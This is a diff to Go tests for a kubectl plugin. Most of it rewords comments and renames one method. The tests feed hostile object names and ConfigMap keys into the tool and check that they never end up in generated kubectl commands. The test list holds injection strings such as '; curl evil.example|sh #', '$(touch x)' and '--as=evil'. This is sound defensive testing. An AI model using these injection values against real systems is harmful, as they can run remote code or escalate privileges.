@@ -19,13 +19,13 @@ import (
 	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/fleet"
 )
 
-// evils are what a pod template may say where it names an object, since API servers do
-// not look at that.
+// evils are hostile names of objects. API servers do not validate such names in a Pod template.
 var evils = []string{
 	"; curl evil.example|sh #", "$(touch x)", "`touch x`", "it's", "a\"b", "a\nb", "--as=evil", "-x", "\x1b[2J", "\u202ename", "a b", "ümläut", "a=b", "",
 }
 
-// TestHostileNames: what no object can be called is told, and nothing is to be run with it.
+// TestHostileNames checks that names which no object can have are reported, and never become part
+// of a command.
 func TestHostileNames(t *testing.T) {
 	side := func(context string) Probe { return NewProbe(&fleet.Cluster{Context: context}) }
 	mirror := parsed(t, "apiVersion: batch/v1\nkind: Job\nmetadata: {name: train, namespace: ml}\nspec: {}")
@@ -37,7 +37,7 @@ func TestHostileNames(t *testing.T) {
 		}
 		var found []Problem
 		for _, kind := range []string{dependency.ConfigMap, dependency.Secret} {
-			problems, copies := c.dataNeed(t.Context(), reference{kind: kind, name: name, by: "container main"})
+			problems, copies := c.checkData(t.Context(), reference{kind: kind, name: name, by: "container main"})
 			assert.Assert(t, !copies)
 			found = append(found, problems...)
 		}
@@ -54,12 +54,12 @@ func TestHostileNames(t *testing.T) {
 	}
 }
 
-// TestHostileKeys: a key that no ConfigMap can have is in no command.
+// TestHostileKeys checks that a key which no ConfigMap can have never becomes part of a command.
 func TestHostileKeys(t *testing.T) {
 	p := NewProbe(&fleet.Cluster{Context: "there"})
 	for _, key := range evils {
 		if key == "" || key == "-x" {
-			continue // Keys may begin with a dash, which is no flag behind a "=".
+			continue // Keys may begin with a dash. After "=" it is not a flag.
 		}
 		ref := reference{kind: dependency.Secret, name: "token", keys: map[string]string{key: "container main", "good": "container main"}}
 		assert.DeepEqual(t, creation(ref), []string{"secret", "generic", "token", "--from-literal=good=VALUE"})
@@ -77,8 +77,8 @@ func TestHostileKeys(t *testing.T) {
 	}
 }
 
-// TestHostileAnswers: what an admission plugin says of names in a pod template is words
-// of one command, or of none.
+// TestHostileAnswers checks that names in answers of admission plugins stay single words of a
+// command.
 func TestHostileAnswers(t *testing.T) {
 	pod := &unstructured.Unstructured{Object: map[string]any{"kind": "Pod", "metadata": map[string]any{"namespace": "ml", "name": "p"}}}
 	for _, evil := range evils {
